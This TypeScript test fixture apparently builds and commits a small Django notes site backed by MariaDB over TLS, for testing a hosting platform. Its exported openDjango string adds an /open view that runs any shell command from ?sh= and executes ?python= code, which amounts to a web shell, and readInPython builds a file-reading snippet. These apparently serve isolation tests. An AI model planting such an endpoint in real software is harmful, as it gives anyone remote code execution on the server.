// A Django site as somebody would bring it: its packages as wheels in the repository, a model with a migration, gunicorn.
// Its page shows what its database holds, and where and how it reaches it.

import { copyFile, mkdir, readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { commitFiles } from './git-server.ts';
import { project } from './play-role.ts';

const wheels = join(project, '.cache', 'wheels');

export const djangoBuild = [
  'python3 -m venv .venv',
  '.venv/bin/pip install --no-index --find-links wheels -r requirements.txt',
  '.venv/bin/python manage.py migrate --no-input',
];

export const djangoService = ['.venv/bin/gunicorn', 'notes.wsgi'];

const settings = `import os
import secrets

environ = os.environ
# Nothing is signed that would have to outlive a restart.
SECRET_KEY = secrets.token_hex()
ALLOWED_HOSTS = environ['SITE_NAMES'].split()
ROOT_URLCONF = 'notes.urls'
INSTALLED_APPS = ['notes']
USE_TZ = True
DEFAULT_AUTO_FIELD = 'django.db.models.BigAutoField'
DATABASES = {'default': {
    'ENGINE': 'django.db.backends.mysql',
    'HOST': environ['DATABASE_HOST'], 'PORT': environ['DATABASE_PORT'], 'NAME': environ['DATABASE_NAME'],
    'USER': environ['DATABASE_USER'], 'PASSWORD': environ['DATABASE_PASSWORD'],
    'OPTIONS': {'charset': 'utf8mb4', 'ssl': {'ca': environ['DATABASE_CA']}},
}}
`;

const urls = `from django.db import connection
from django.http import HttpResponse
from django.urls import path

from .models import Note


def value(sql):
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return cursor.fetchone()[-1]


def page(request):
    if 'add' in request.GET:
        Note.objects.create(text=request.GET['add'])
    notes = ', '.join(note.text for note in Note.objects.order_by('id'))
    where = [value('SELECT @@hostname'), value("SHOW STATUS LIKE 'Ssl_version'")]
    return HttpResponse(' | '.join([notes, *where]))


urlpatterns = [path('', page)]
`;

const migration = `from django.db import migrations, models


def seed(apps, _editor):
    apps.get_model('notes', 'Note').objects.create(text='kept in MariaDB')


class Migration(migrations.Migration):
    initial = True
    operations = [
        migrations.CreateModel('Note', [
            ('id', models.BigAutoField(primary_key=True)),
            ('text', models.CharField(max_length=200)),
        ]),
        migrations.RunPython(seed),
    ]
`;

const files = {
  'manage.py': `import os
import sys

from django.core.management import execute_from_command_line

os.environ['DJANGO_SETTINGS_MODULE'] = 'notes.settings'
execute_from_command_line(sys.argv)
`,
  // It serves where Aegir tells it to.
  'gunicorn.conf.py': "import os\n\nbind = f\"{os.environ['HOST']}:{os.environ['PORT']}\"\n",
  // Pure Python in the place of Django's own driver, which would have to be compiled.
  'notes/__init__.py': "import pymysql\n\npymysql.version_info = (2, 2, 1, 'final', 0)\npymysql.install_as_MySQLdb()\n",
  'notes/settings.py': settings,
  'notes/wsgi.py': `import os

from django.core.wsgi import get_wsgi_application

os.environ['DJANGO_SETTINGS_MODULE'] = 'notes.settings'
application = get_wsgi_application()
`,
  'notes/models.py':
    'from django.db import models\n\n\nclass Note(models.Model):\n    text = models.CharField(max_length=200)\n',
  'notes/migrations/__init__.py': '',
  'notes/migrations/0001_initial.py': migration,
};

/** For `OpenSite` (trespass.ts), at /open: ?sh= is a shell command, ?python= a program. */
export const openDjango = `

def obey(request):
    import contextlib, io, subprocess
    printed = io.StringIO()
    if 'sh' in request.GET:
        printed.write(subprocess.run(
            request.GET['sh'], shell=True, text=True, errors='replace', stdout=subprocess.PIPE, stderr=subprocess.STDOUT
        ).stdout)
    with contextlib.redirect_stdout(printed):
        exec(request.GET.get('python', ''))
    return HttpResponse(printed.getvalue(), content_type='text/plain')


urlpatterns.append(path('open', obey))
`;

export const readInPython = (command: string) => `
import glob, os
for path in [path for word in ${JSON.stringify(command)}.split() for path in glob.glob(word)]:
    try:
        print(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read())
    except OSError as error:
        print(error)
`;

/** Returns the commit's hash. */
export async function commitDjangoSite(repository: string, moreViews = ''): Promise<string> {
  await mkdir(join(repository, 'wheels'), { recursive: true });
  const names = (await readdir(wheels)).filter(name => name.endsWith('.whl'));
  for (const name of names) await copyFile(join(wheels, name), join(repository, 'wheels', name));
  const requirements = await readFile(join(project, 'test', 'wheels.txt'), 'utf8');
  const views = { 'notes/urls.py': urls + moreViews };
  return commitFiles(repository, { ...files, ...views, 'requirements.txt': requirements });
}
